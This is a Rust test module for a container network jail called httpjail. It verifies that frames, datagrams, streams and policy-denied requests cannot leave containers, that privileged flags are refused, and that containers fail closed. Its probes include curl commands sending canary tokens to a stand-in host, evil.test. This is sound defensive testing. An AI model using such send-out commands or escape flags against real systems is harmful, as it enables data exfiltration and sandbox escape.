//! What a container must not be able to do, and who chooses its policy.

use anyhow::{Result, ensure};
use httpjail_lab::canary;

use super::{DATAGRAM, FRAME, STREAM, Trials};
use crate::engines::cli::Kind;
use crate::engines::host::{BROKEN, OK};

/// How many containers send at once when they start.
const FIRSTS: usize = 30;

impl Trials<'_> {
    /// What the rest is compared with.
    pub(super) fn without(&mut self) {
        for (what, script) in [("a frame", FRAME), ("a datagram", DATAGRAM), ("a stream", STREAM)] {
            if self.engine.kind() != Kind::Docker && script == FRAME {
                // Podman gives no NET_RAW.
                continue;
            }
            let mark = canary();
            let outcome = self
                .engine
                .start_container(None, &[], &["python3", "-c", script, &mark])
                .run();
            // The bridge carries a frame no further than to the host.
            let seen = if script == FRAME {
                outcome.code() == Some(0)
            } else {
                self.lab.wire().saw(&mark)
            };
            self.rows.row(
                &format!("without httpjail: {what}"),
                seen,
                if seen { "on the wire" } else { "-" }.to_owned(),
                &outcome,
            );
        }
        let mark = canary();
        let url = format!("https://evil.test/{mark}");
        let run = self.engine.start_container(None, &[], &["curl", "-sSk", &url]);
        self.rows
            .arrives("without httpjail: a request that the policy denies", &mark, run);
    }

    pub(super) fn denials(&mut self) {
        for (what, script) in [("a frame", FRAME), ("a datagram", DATAGRAM), ("a stream", STREAM)] {
            let mark = canary();
            let run = self.held(Some(OK), &[], &["python3", "-c", script, &mark]);
            self.rows.silent(what, &mark, run);
        }
        let mark = canary();
        let run = self.held(Some(OK), &[], &["curl", "-sSk", &format!("https://evil.test/{mark}")]);
        self.rows.silent("a request that the policy denies", &mark, run);
        let run = self.held(Some(OK), &["--cap-add", "ALL"], &["python3", "-c", FRAME, &mark]);
        self.rows.stopped("a frame, with --cap-add ALL", &mark, run);
        self.refused("--privileged", &["--privileged"], &["true"], "disk");
        self.refused("--pid host", &["--pid", "host"], &["true"], "processes");
        self.refused("--network host", &["--network", "host"], &["true"], "network");
    }

    /// Containers whose first act is to send.
    pub(super) fn firsts(&mut self) {
        let (allowed, denied) = (canary(), canary());
        let script = format!("curl -sSk https://evil.test/{denied}; exec curl -sS https://ok.test/{allowed}");
        let mut last = None;
        for _ in 0..FIRSTS {
            last = Some(self.held(Some(OK), &[], &["sh", "-c", &script]).run());
        }
        let counts = (self.rows.arrived(&allowed), self.rows.arrived(&denied));
        if let Some(outcome) = last {
            let seen = format!("allowed {} of {FIRSTS}, denied {} at the origin", counts.0, counts.1);
            self.rows.row(
                "the first connections of containers",
                counts == (FIRSTS, 0),
                seen,
                &outcome,
            );
        }
    }

    pub(super) fn policies(&mut self) -> Result<()> {
        let outcome = self.held(Some(BROKEN), &[], &["true"]).run();
        let said = format!("{}{}", outcome.stdout, outcome.stderr);
        let good = outcome.code() != Some(0) && said.contains("broken.yaml");
        self.rows.row(
            "a policy that cannot be read",
            good,
            "does not start".to_owned(),
            &outcome,
        );
        let changes = ["ENV HTTPJAIL_POLICY=ok", "LABEL httpjail.policy=ok"];
        self.engine.derive("lab/names", &changes)?;
        let mark = canary();
        let run = self.engine.start_image(
            Some("httpjail"),
            "lab/names",
            &[],
            &["curl", "-sSk", &format!("https://ok.test/{mark}")],
        );
        self.rows
            .silent("an image that names a policy by ENV and LABEL", &mark, run);
        let hide = self
            .engine
            .host()
            .command(&["mv", "/usr/local/bin/httpjail", "/usr/local/bin/hidden"])
            .run();
        ensure!(hide.code() == Some(0), "hide httpjail: {}", hide.stderr);
        let mark = canary();
        let run = self.held(Some(OK), &[], &["curl", "-sSk", &format!("https://ok.test/{mark}")]);
        self.rows.stopped("httpjail is not there", &mark, run);
        self.engine
            .host()
            .command(&["mv", "/usr/local/bin/hidden", "/usr/local/bin/httpjail"])
            .run();
        Ok(())
    }
}
